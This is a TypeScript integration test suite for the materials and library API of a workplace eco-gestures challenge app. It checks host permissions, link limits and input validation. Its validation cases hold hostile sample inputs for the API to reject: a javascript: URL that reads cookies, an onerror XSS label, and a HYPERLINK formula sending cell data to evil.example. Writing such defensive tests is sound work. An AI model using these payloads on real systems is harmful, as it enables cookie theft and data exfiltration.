import { DEMO_ORGANISER, demoProgramme, loadDemoIfEmpty } from '../../../src/demo/demo-challenge';
import { isHostOf, programmeOrder, type Workshop } from '../../../src/domain/workshops';
import { startTestApp, type TestApp } from '../../support/test-app';

/**
 * The éco-gestes library over HTTP against the real app and store (local sign-in), the demo challenge loaded on
 * Wednesday 25 November at 16:00: three days of quizzes sent, two to come.
 */
describe('the library API', () => {
  let t: TestApp;
  /** demo-agent-1-1 is of the DSI, which hosts three workshops; demo-agent-1-2 is of the education direction. */
  const HOST = 'demo-agent-1-1';
  const STRANGER = 'demo-agent-1-2';
  let hosted: Workshop[];
  let challengeId: string;

  const as = (agentId: string) => ({ Authorization: `Dev ${agentId}` });
  const add = (agentId: string, workshopId: string, body: unknown) =>
    t.post(`/api/workshops/${encodeURIComponent(workshopId)}/materials`, body, as(agentId));
  const remove = async (agentId: string, workshopId: string, materialId: string) => {
    const response = await fetch(
      `${t.baseUrl}/api/workshops/${encodeURIComponent(workshopId)}/materials/${encodeURIComponent(materialId)}`,
      { method: 'DELETE', headers: as(agentId) },
    );
    return { status: response.status, body: await response.json() };
  };
  const materialsOf = async (workshopId: string) =>
    (await t.app.deps.workshops.materials(challengeId, workshopId)).map((m) => m.label);

  beforeAll(async () => {
    t = await startTestApp({ now: '2026-11-25T16:00:00+01:00' });
    await loadDemoIfEmpty(t.app.deps);
    const challenge = (await t.app.deps.challenges.current())!;
    const host = (await t.app.deps.agents.get(HOST))!;
    hosted = programmeOrder(await t.app.deps.workshops.list(challenge.id)).filter((w) =>
      isHostOf(host, w),
    );
    challengeId = challenge.id;
    expect(hosted.length).toBeGreaterThanOrEqual(2);
  }, 60_000);
  afterAll(() => t.close());

  it('gives every agent the questions of the quizzes sent so far, by theme, and none of a day to come', async () => {
    const { status, body } = await t.get('/api/library', as(STRANGER));
    expect(status).toBe(200);
    const questions = body.themes.flatMap(
      (theme: { questions: { id: string; day: number }[] }) => theme.questions,
    );
    expect(new Set(questions.map((q: { day: number }) => q.day))).toEqual(new Set([1, 2, 3]));
    expect(JSON.stringify(body)).not.toMatch(/"j[45]-q\d"/);
    for (const theme of body.themes) {
      expect(theme.name).toEqual({ fr: expect.any(String), en: expect.any(String) });
      expect(theme.questions.length).toBeGreaterThan(0);
    }
    // what the agent answered shows its answer and source; the rest waits for their answer in the chat
    const answered = new Set(
      (await t.app.deps.events.answersOf(challengeId, STRANGER)).map((a) => a.questionId),
    );
    expect(answered.size).toBeGreaterThan(0);
    for (const q of questions) {
      if (answered.has(q.id)) {
        expect(q.answer.correct.length).toBeGreaterThan(0);
        expect(q.answer.source.url).toMatch(/^https:\/\//);
      } else {
        expect(q.answer).toBeNull();
      }
    }
  });

  it('lets a host add a link to their workshop, which every agent then sees', async () => {
    const workshop = hosted[0]!;
    const { status, body } = await add(HOST, workshop.id, {
      label: 'Diaporama de la conférence',
      url: 'https://intranet.example.org/defi/lancement.pdf',
    });
    expect(status).toBe(201);
    expect(body).toEqual({
      workshopId: workshop.id,
      material: {
        id: expect.any(String),
        label: 'Diaporama de la conférence',
        url: 'https://intranet.example.org/defi/lancement.pdf',
      },
      materials: [body.material],
    });

    const library = await t.get('/api/library', as(STRANGER));
    const shown = library.body.workshops.find((w: { id: string }) => w.id === workshop.id);
    expect(shown).toMatchObject({
      title: workshop.title,
      canManage: false,
      materials: [{ label: 'Diaporama de la conférence' }],
    });
    const forHost = await t.get('/api/library', as(HOST));
    expect(
      forHost.body.workshops
        .filter((w: { canManage: boolean }) => w.canManage)
        .map((w: { id: string }) => w.id),
    ).toEqual(hosted.map((w) => w.id));
  });

  it('refuses a stranger (403 not_host) and writes nothing', async () => {
    const workshop = hosted[1]!;
    const { status, body } = await add(STRANGER, workshop.id, {
      label: 'Mon lien',
      url: 'https://example.org/',
    });
    expect(status).toBe(403);
    expect(body.error).toBe('not_host');
    expect(await materialsOf(workshop.id)).toEqual([]);
    const unsigned = await t.post(`/api/workshops/${workshop.id}/materials`, {
      label: 'x',
      url: 'https://example.org/',
    });
    expect(unsigned.status).toBe(401);
    expect(await materialsOf(workshop.id)).toEqual([]);
  });

  it.each([
    ['a javascript: address', { label: 'Guide', url: 'javascript:alert(document.cookie)' }, 'url'],
    ['an http address', { label: 'Guide', url: 'http://intranet.example.org/' }, 'url'],
    ['a label of 100 KB', { label: 'é'.repeat(100 * 1024), url: 'https://example.org/' }, 'label'],
    [
      'a spreadsheet formula as label',
      { label: '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', url: 'https://example.org/' },
      'label',
    ],
    [
      'markup as label',
      { label: '<img src=x onerror=alert(1)>', url: 'https://example.org/' },
      'label',
    ],
    ['no label', { url: 'https://example.org/' }, 'label'],
  ])('answers 400 to %s, naming the field, and writes nothing', async (_name, body, field) => {
    const workshop = hosted[1]!;
    const response = await add(HOST, workshop.id, body);
    expect(response.status).toBe(400);
    expect(response.body).toMatchObject({ error: 'material_invalid', details: { field } });
    expect(await materialsOf(workshop.id)).toEqual([]);
  });

  it('takes ten links per workshop and refuses the eleventh (400), even sent at once', async () => {
    const workshop = hosted[1]!;
    // twelve at once: the slots let ten in, whatever the order
    const results = await Promise.all(
      Array.from({ length: 12 }, (_, i) =>
        add(HOST, workshop.id, { label: `Lien ${i + 1}`, url: `https://example.org/${i + 1}` }),
      ),
    );
    expect(results.filter((r) => r.status === 201)).toHaveLength(10);
    const refused = results.filter((r) => r.status !== 201);
    expect(refused.map((r) => [r.status, r.body.error])).toEqual([
      [400, 'materials_full'],
      [400, 'materials_full'],
    ]);
    expect(await materialsOf(workshop.id)).toHaveLength(10);
    const eleventh = await add(DEMO_ORGANISER, workshop.id, {
      label: 'Lien 13',
      url: 'https://example.org/13',
    });
    expect([eleventh.status, eleventh.body.error, eleventh.body.details.field]).toEqual([
      400,
      'materials_full',
      'materials',
    ]);
    expect(await materialsOf(workshop.id)).toHaveLength(10);
  });

  it('keeps the materials when the programme is imported again', async () => {
    const challenge = (await t.app.deps.challenges.current())!;
    const before = await materialsOf(hosted[0]!.id);
    const imported = await t.post(
      '/api/admin/workshops/import',
      { text: demoProgramme(challenge), format: 'json' },
      as(DEMO_ORGANISER),
    );
    expect(imported.status).toBe(200);
    expect(imported.body.updated.length).toBeGreaterThan(0);
    expect(await materialsOf(hosted[0]!.id)).toEqual(before);
    expect(before).toHaveLength(1);
  });

  it('lets the host or an organiser remove a link, and a stranger not', async () => {
    const workshop = hosted[0]!;
    const [material] = await t.app.deps.workshops.materials(challengeId, workshop.id);
    const refused = await remove(STRANGER, workshop.id, material!.id);
    expect([refused.status, refused.body.error]).toEqual([403, 'not_host']);
    const removed = await remove(DEMO_ORGANISER, workshop.id, material!.id);
    expect(removed).toEqual({
      status: 200,
      body: { workshopId: workshop.id, removed: true, materials: [] },
    });
    const again = await remove(HOST, workshop.id, material!.id);
    expect([again.status, again.body.removed]).toEqual([200, false]);
  });
});
